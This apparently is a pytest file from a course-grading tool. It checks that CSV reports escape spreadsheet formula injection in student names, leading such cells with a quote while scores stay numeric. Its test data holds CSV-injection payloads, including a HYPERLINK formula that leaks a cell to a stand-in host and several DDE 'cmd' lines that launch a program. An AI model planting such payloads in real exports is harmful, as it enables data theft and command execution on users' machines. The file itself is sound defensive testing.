"""No CSV the grader writes runs in a spreadsheet: students of a Gradescope export named with the
usual formula payloads are collected, graded and reported, and every cell of canvas.csv and
grades.csv that starts like a formula is shown as text (a single quote before it), while the
grader's own numbers, negative ones included, stay numbers."""

import csv
import json
import zipfile
from pathlib import Path

import nbformat
import pytest

from grader.course import read_lesson
from grader.demo import practice_names, student_notebook
from grader.outputs.report import FORMULA_STARTS, spreadsheet_text, write_csv

pytestmark = pytest.mark.slow
LESSON = "02_scaled_dot_product"
PAYLOADS = {  # Gradescope SID -> the name its student gave Gradescope
    "100": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your grade")',
    "101": "@SUM(1+1)*cmd|' /C calc'!A0",
    "102": "+1-1+cmd|' /C calc'!A0",
    "103": "-2+3+cmd|' /C calc'!A0",
    "104": " =1+1",
    "105": "=1+1\tAnn",
}


def export(workspace) -> list[Path]:
    """A Gradescope export of lesson 02, a correct notebook from each student."""
    root, zipped = "assignment_1_export", workspace.root.parent / "gradescope.zip"
    metadata = "".join(f"submission_{sid}:\n  :submitters:\n  - :name: {json.dumps(name)}\n"
                       f"    :sid: '{sid}'\n  :created_at: 2024-03-01 10:00:00.000000000 +00:00\n"
                       for sid, name in PAYLOADS.items())
    text = nbformat.writes(student_notebook(LESSON, dict.fromkeys(practice_names(LESSON))))
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr(f"{root}/submission_metadata.yml", metadata)
        for sid in PAYLOADS:
            archive.writestr(f"{root}/submission_{sid}/{LESSON}.ipynb", text)
    return [zipped]


@pytest.fixture(scope="module")
def report(graded_class) -> Path:
    workspace = graded_class("spreadsheet-cells", downloads=export,
                             grade=("--workers", "1", "--lesson", LESSON), then=("report",))
    return workspace.report


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def runs_as_a_formula(cell: str) -> bool:
    starts = cell[:1] + cell.lstrip(" \n")[:1]
    return bool(FORMULA_STARTS.intersection(starts)) and not is_number(cell)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", ["canvas.csv", "grades.csv"])
def test_no_cell_of_the_report_runs_as_a_formula(report, name):
    rows = cells(report / name)
    assert len(rows) >= len(PAYLOADS) + 1
    formulas = [cell for row in rows for cell in row if runs_as_a_formula(cell)]
    assert formulas == []


def test_the_students_names_are_shown_as_written_and_scores_stay_numbers(report):
    header, _, *students = cells(report / "canvas.csv")
    rows = {row[2]: row for row in students}  # by SIS User ID
    column = header.index(LESSON)
    assert set(rows) == set(PAYLOADS)
    assert rows["100"][0] == "'" + PAYLOADS["100"]
    assert all(row[0].startswith("'") for row in rows.values()), rows
    full = f"{read_lesson(LESSON).max_score:g}"
    assert {row[column] for row in rows.values()} == {full}  # full marks, a number


def test_every_csv_cell_a_student_can_reach_is_neutralised_and_numbers_are_not(tmp_path):
    payloads = ["=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1", "\n=1", "\0=1", "＝1",
                "=HYPERLINK(\"x\")"]
    numbers = ["7", "-1.5", "0", "-0.33", "12.25"]
    path = write_csv(tmp_path / "out.csv", [payloads, numbers, ["ann", "Smith, Bob", ""]])
    read = cells(path)
    assert read[0] == ["'" + payload for payload in payloads]
    assert read[1] == numbers and read[2] == ["ann", "Smith, Bob", ""]
    assert spreadsheet_text(-2.5) == "-2.5" and spreadsheet_text("'=1") == "'=1"
